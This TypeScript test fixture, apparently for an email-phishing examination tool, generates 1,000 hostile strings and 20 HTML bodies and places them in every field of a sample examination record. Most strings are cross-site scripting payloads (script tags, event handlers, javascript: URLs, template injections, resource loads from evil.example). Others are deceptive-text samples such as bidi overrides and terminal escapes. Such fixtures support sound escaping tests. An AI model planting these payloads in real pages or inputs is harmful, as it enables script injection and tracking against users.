/** 1,000 strings that try to run, to ask somebody, or to deceive the eye; and 20 bodies of HTML that try the same. */

/** Whoever is asked here was reached by a hostile text. */
export const EVIL = 'evil.example';

/** Each with `N`, so that a hit tells which it was. */
const markup = [
  '<script>window.hit=N;alert(N)</script>',
  '"><script src=//evil.example/N></script>',
  "'><img src=x onerror=alert(N)>",
  '<img src=//evil.example/N.png>',
  '<svg onload=alert(N)>',
  '<svg><script href=//evil.example/N />',
  '<iframe srcdoc="<script>alert(N)</script>">',
  '<iframe src=javascript:alert(N)>',
  '<object data=//evil.example/N>',
  '<embed src=//evil.example/N>',
  '<link rel=stylesheet href=//evil.example/N.css>',
  '<style>@import"//evil.example/N";*{background:url(//evil.example/N)}</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example/N">',
  '<base href=//evil.example/N/>',
  '<form action=//evil.example/N><button autofocus onfocus=alert(N)>',
  '<input autofocus onfocus=alert(N)>',
  '<details open ontoggle=alert(N)>',
  '<video><source onerror=alert(N)>',
  '<math><mi xlink:href="javascript:alert(N)">x',
  '<a href="javascript:alert(N)">x</a>',
  '</title><script>alert(N)</script>',
  '</script><script>alert(N)</script>',
  '--><script>alert(N)</script>',
  ']]><img src=x onerror=alert(N)>',
  '<template><script>alert(N)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(N)>">',
  '&lt;script&gt;alert(N)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(N)',
  '{{constructor.constructor("alert(N)")()}}',
  '$' + '{alert(N)}',
  '{@html "<img src=x onerror=alert(N)>"}',
  'javascript:alert(N)',
  'JaVaScRiPt:alert(N)//',
  'data:text/html,<script>alert(N)</script>',
  'url(//evil.example/N)',
  'expression(alert(N))',
  '" style="background:url(//evil.example/N)',
  '" onmouseover=alert(N) x="',
  "' autofocus onfocus=alert(N) x='",
  '`onerror=alert(N)`',
] as const;
const deceiving = [
  'N\u202egpj.exe',
  '\u2066N\u2069\u2067x\u2069',
  'good\u200b.example\u200dN',
  'N\u0000x\u0007\u001b[31mred',
  '\u001b]8;;http://evil.example/N\u0007x\u001b]8;;\u0007',
  '\u009b31mN',
  'line\nline\r\nN\u2028\u2029',
  'N\u{e0041}\u{e0042}',
  'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307N',
  '\ud800N',
] as const;

export const hostileStrings: readonly string[] = Array.from({ length: 1000 }, (_, n) => {
  const all = [...markup, ...deceiving];
  const text = (all[n % all.length] ?? '').replaceAll('N', String(n));
  // in several dresses: as it is, in upper case, with a tab in the name, encoded, behind an address
  switch (Math.floor(n / all.length) % 5) {
    case 0:
      return text;
    case 1:
      return text.toUpperCase();
    case 2:
      return text.replace('<s', '<\ts');
    case 3:
      return `http://${EVIL}/?${text}`;
    default:
      return `"${text}" <a@${EVIL}>`;
  }
});

export const hostileBodies: readonly string[] = [
  '<script>top.hit=1;alert(1)</script>text',
  '<img src="http://evil.example/pixel.gif" width=1 height=1>text',
  '<img src=x onerror=alert(1)>text',
  '<body onload=alert(1) background="http://evil.example/bg.png">text',
  '<style>@import url(http://evil.example/x.css);body{background:url(http://evil.example/y)}</style>text',
  '<p style="background-image:url(http://evil.example/z)">text</p>',
  '<iframe src="http://evil.example/frame"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>text',
  '<form action="http://evil.example/form"><input name=password type=password autofocus onfocus=alert(1)><input type=submit></form>text',
  '<a href="javascript:alert(1)" target=_top>text</a>',
  '<meta http-equiv=refresh content="0;url=http://evil.example/refresh">text',
  '<base href="http://evil.example/"><img src="relative.png"><a href="x">text</a>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s><image href="http://evil.example/svg.png"/></svg>text',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">text',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">text',
  '<textarea></textarea><img src=x onerror=alert(1)>text<plaintext><script>alert(1)</script>',
  '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">text',
  '<img src="data:image/png;base64,iVBORw0KGgo=&quot; onerror=&quot;alert(1)">text',
  '<video src="http://evil.example/v" poster="http://evil.example/p" autoplay></video><audio src="http://evil.example/a" autoplay></audio>text',
  '<link rel=prefetch href="http://evil.example/prefetch"><link rel=dns-prefetch href="//evil.example">text',
  `${'<div>'.repeat(20_000)}text<font color="red&quot; onmouseover=&quot;alert(1)" size="7&gt;&lt;script&gt;alert(1)">x</font>`,
];

/** An examination with a text in each of its fields that a stranger can fill. */
export function examinationWith(text: (field: number) => string): { readonly json: string; readonly fields: number } {
  let fields = 0;
  const s = (): string => text(fields++);
  const at = { proof: [{ at: [0, 10] }] };
  const mailbox = () => ({ value: { name: s(), address: s() }, ...at });
  const both = () => ({ ja: s(), en: s() });
  const hop = (index: number, trust: string) => ({
    at: [index * 10, index * 10 + 10],
    format: 'generic',
    index,
    trust,
    rule: 'topmost',
    why: both(),
    helo: s(),
    rdns: s(),
    ip: s(),
    by: s(),
    with: s(),
    tls: s(),
    id: s(),
    for: s(),
    user: s(),
    userKind: 'auth',
    date: s(),
  });
  const examination = {
    schema: 'metsuke/examination/1',
    source: s(),
    sha256: '0'.repeat(64),
    bytes: 1000,
    at: '2026-01-02T03:04:05Z',
    version: '0',
    defects: [{ code: 'header-without-colon', at: [0, 5], words: { name: s() } }],
    facts: {
      subject: { value: s(), ...at },
      from: [mailbox(), mailbox()],
      replyTo: [mailbox()],
      sender: [mailbox()],
      to: [mailbox()],
      cc: [],
      mailFrom: { value: s(), ...at },
      messageId: { value: s(), ...at },
      date: { value: s(), ...at },
      route: {
        value: {
          hops: [hop(0, 'ours'), hop(1, 'claimed'), hop(2, 'contradicted')],
          border: 0,
          handover: { ip: s(), helo: s(), rdns: s(), by: s(), user: s(), hop: 0 },
          basis: 'rule',
          ends: { rule: 'outside', why: both() },
        },
        ...at,
      },
      networks: [{ value: { ip: s(), role: 'handover', asn: 1, holder: s(), country: s() }, ...at }],
      authentication: {
        value: { reported: [{ by: s(), trusted: false, method: s(), result: s(), domain: s() }] },
        ...at,
      },
      links: [
        { value: { url: `http://${s()}`, shown: s(), host: s(), domain: s(), where: 'html', via: s() }, ...at },
        { value: { url: s(), shown: s(), host: s(), domain: s(), where: 'qr', personal: 'plain' }, ...at },
      ],
      attachments: [
        {
          value: {
            name: s(),
            type: s(),
            declared: s(),
            sha256: '0'.repeat(64),
            bytes: 10,
            inside: [{ name: s(), type: s(), bytes: 1, depth: 1, how: 'stored' }],
          },
          ...at,
        },
      ],
      stamps: [{ value: { kind: 'virus', by: s(), says: s(), malware: s(), file: s(), encyclopedia: s() }, ...at }],
      text: { value: { language: 'ja', seen: s(), hidden: s(), charsets: ['utf-8'] }, ...at },
      distribution: [{ value: { kind: 'mailing-list', name: s() }, ...at }],
      defects: [],
    },
    findings: [
      { detector: 'many-from', weight: 1, ...at, title: both(), explains: both(), mistakes: both() },
      { detector: 'forwarded', weight: -1, ...at, title: both(), explains: both(), mistakes: both() },
    ],
    verdict: {
      kind: 'phishing',
      certainty: 'likely',
      danger: 90,
      sender: [{ hypothesis: 'forged', standing: 'supported', for: [], against: [], wouldDecide: both() }],
      because: ['many-from'],
      against: ['forwarded'],
      unknown: [{ what: s(), why: 'not-asked' }],
      summary: both(),
      advice: [both()],
    },
    answers: [
      {
        id: s(),
        question: { kind: 'dns', key: s(), type: 'TXT' },
        at: s(),
        source: s(),
        outcome: 'found',
        value: [s()],
        raw: s(),
      },
      { id: `${s()}-2`, question: { kind: 'rdap', key: s() }, at: s(), source: s(), outcome: 'failed', reason: s() },
    ],
    partial: [s()],
  };
  return { json: JSON.stringify(examination), fields };
}
